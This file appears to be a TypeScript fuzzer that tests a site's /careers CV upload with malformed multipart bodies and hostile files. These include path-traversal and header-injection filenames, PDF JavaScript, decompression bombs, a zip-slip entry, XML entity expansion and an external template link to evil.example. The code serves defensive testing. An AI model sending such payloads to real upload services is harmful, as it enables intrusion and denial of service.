/** Generates multipart bodies by a grammar in which every rule may be violated, and files that only look like a CV. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { acceptedFiles, pdf, refusedFiles, zip } from '../../../tests/accounts/cv-samples.ts';
import type { Input } from '../input.ts';
import type { Random } from '../random.ts';
import { fields, knownForms, post } from './forms.ts';

interface Part {
  head: string;
  content: Buffer;
}

const fileNames = [
  'cv.pdf',
  'cv.docx',
  'cv.doc',
  '',
  'cv.pdf.exe',
  '../../cv.pdf',
  'cv\u0000.pdf',
  '<attack>.pdf',
  'c'.repeat(500),
  'CON',
  '.pdf',
  'cv.pdf"; name="email',
  'cv.PDF ',
];

function fieldPart(random: Random, name: string, value: string): Part {
  const disposition = random.chance(0.95)
    ? `form-data; name="${name.replaceAll('"', '%22')}"`
    : random.pick([
        'form-data',
        'form-data; name',
        `form-data; name*=utf-8''${random.word()}`,
        'attachment; name="email"',
        `form-data; name="${'n'.repeat(200)}"`,
        '',
      ]);
  return { head: `Content-Disposition: ${disposition}`, content: Buffer.from(value) };
}

export function filePart(name: string, content: Buffer, type = 'application/pdf'): Part {
  return { head: `Content-Disposition: form-data; name="cv"; filename="${name}"\r\nContent-Type: ${type}`, content };
}

export function multipartBody(parts: Part[], boundary: string): Buffer {
  return Buffer.concat([
    ...parts.flatMap(({ head, content }) => [
      Buffer.from(`--${boundary}\r\n${head}\r\n\r\n`),
      content,
      Buffer.from('\r\n'),
    ]),
    Buffer.from(`--${boundary}--\r\n`),
  ]);
}

function send(random: Random, host: string, kind: Input['kind'], path: string, parts: Part[]): Input {
  const boundary = random.pick(['----attack', '----attack', 'a', '-', 'x'.repeat(70), random.word()]);
  let body = multipartBody(parts, boundary);
  if (kind === 'multipart' && random.chance(0.25)) body = random.damaged(body);
  const type = random.chance(0.9)
    ? `multipart/form-data; boundary=${boundary}`
    : random.pick([
        'multipart/form-data',
        'multipart/form-data; boundary=',
        `multipart/form-data; boundary="${boundary}`,
        `multipart/form-data; boundary=${boundary}; boundary=other`,
        `multipart/mixed; boundary=${boundary}`,
        `MULTIPART/FORM-DATA; BOUNDARY=${'b'.repeat(300)}`,
      ]);
  return { kind, seed: random.seed, ...post(random, host, path, type, body), mostAnswers: 2 };
}

export function multipart(random: Random, host: string): Input {
  const known = random.chance(0.6) ? random.pick(knownForms.filter(({ file }) => file)) : random.pick(knownForms);
  const parts = fields(random, known).map(([name, value]) => fieldPart(random, name, value));
  for (let files = random.pick([0, 1, 1, 2, 3]); files > 0; files -= 1)
    parts.splice(
      random.below(parts.length + 1),
      0,
      filePart(
        random.pick(fileNames),
        random.chance(0.7) ? random.bytes(random.length()) : pdf,
        random.pick(['application/pdf', 'text/html', random.word()]),
      ),
    );
  // These fields reach the limit of fields while the file is still in the same chunk.
  if (random.chance(0.05))
    parts.unshift(...Array.from({ length: 31 }, (_, index) => fieldPart(random, `f${index}`, 'x')));
  return send(random, host, 'multipart', known.path, parts);
}

function object(dictionary: string, stream: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`5 0 obj<<${dictionary}/Filter/FlateDecode/Length ${stream.length}>>stream\n`),
    stream,
    Buffer.from('\nendstream endobj\n'),
  ]);
}

/** A PDF with extra bytes inserted after its first 9 bytes, the header line. */
function inside(extra: Buffer): Buffer {
  return Buffer.concat([pdf.subarray(0, 9), extra, pdf.subarray(9)]);
}

/** PDFs and archives with hostile content inside; none unpacks to more than 40 MB. */
function hostileFile(random: Random): [name: string, content: Buffer] {
  const types = { name: '[Content_Types].xml', content: Buffer.from('<?xml version="1.0"?><Types/>') };
  const word = { name: 'word/document.xml', content: Buffer.from('<?xml version="1.0"?><w:document/>') };
  return random.pick<() => [string, Buffer]>([
    () => [
      'cv.pdf',
      inside(object('/Type/ObjStm/N 1/First 4', deflateSync(Buffer.from('6 0 <</S/JavaScript/JS(app.alert(1))>>')))),
    ],
    () => ['cv.pdf', inside(object('/Type/EmbeddedFile', deflateSync(Buffer.from('MZ attack'))))],
    () => ['cv.pdf', inside(object('', deflateSync(Buffer.alloc(random.pick([1e6, 1e7, 4e7])))))],
    () => ['cv.pdf', inside(Buffer.from('['.repeat(random.pick([1000, 100_000, 1_000_000]))))],
    () => ['cv.pdf', inside(Buffer.from('<<'.repeat(random.pick([1000, 200_000]))))],
    () => ['cv.pdf', inside(Buffer.from('/#4a'.repeat(200_000)))],
    () => ['cv.pdf', inside(Buffer.from('stream\n'.repeat(50_000)))],
    () => [
      'cv.docx',
      zip([types, word, { name: 'word/media/a.bin', content: Buffer.alloc(random.pick([1e6, 4e7])), claims: 5000 }]),
    ],
    () => [
      'cv.docx',
      zip([
        types,
        word,
        ...Array.from({ length: random.pick([100, 5000]) }, (_, index) => ({
          name: `word/${index}.xml`,
          content: Buffer.alloc(1),
        })),
      ]),
    ],
    () => ['cv.docx', zip([types, word, { name: '../../evil', content: Buffer.from('x') }])],
    () => [
      'cv.docx',
      zip([
        types,
        {
          name: 'word/document.xml',
          content: Buffer.from(
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
          ),
        },
      ]),
    ],
    () => [
      'cv.docx',
      zip([
        types,
        word,
        {
          name: 'word/_rels/settings.xml.rels',
          content: Buffer.from(
            '<Relationship Type="attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/>',
          ),
        },
      ]),
    ],
    () => ['cv.docx', zip([types, word, { name: 'word/vbaProject.bin', content: Buffer.from('attack') }])],
    () => ['cv.docx', Buffer.concat([zip([types, word]), Buffer.from(String(crc32(deflateRawSync('x'))))])],
  ])();
}

export function cvFile(random: Random, host: string): Input {
  const [, name, content] = random.chance(0.5)
    ? random.pick([...acceptedFiles, ...refusedFiles])
    : (['', ...hostileFile(random)] as const);
  const file = random.chance(0.6) ? random.damaged(content) : content;
  const application = {
    intent: 'apply',
    elapsed: '9000',
    name: 'Anna Rossi',
    email: `cv-${random.below(300)}@example.com`,
    job: 'senior-typescript-engineer-remote',
    message: '',
  };
  return send(random, host, 'CV file', '/careers', [
    ...Object.entries(application).map(([field, value]) => ({
      head: `Content-Disposition: form-data; name="${field}"`,
      content: Buffer.from(value),
    })),
    filePart(name, file),
  ]);
}
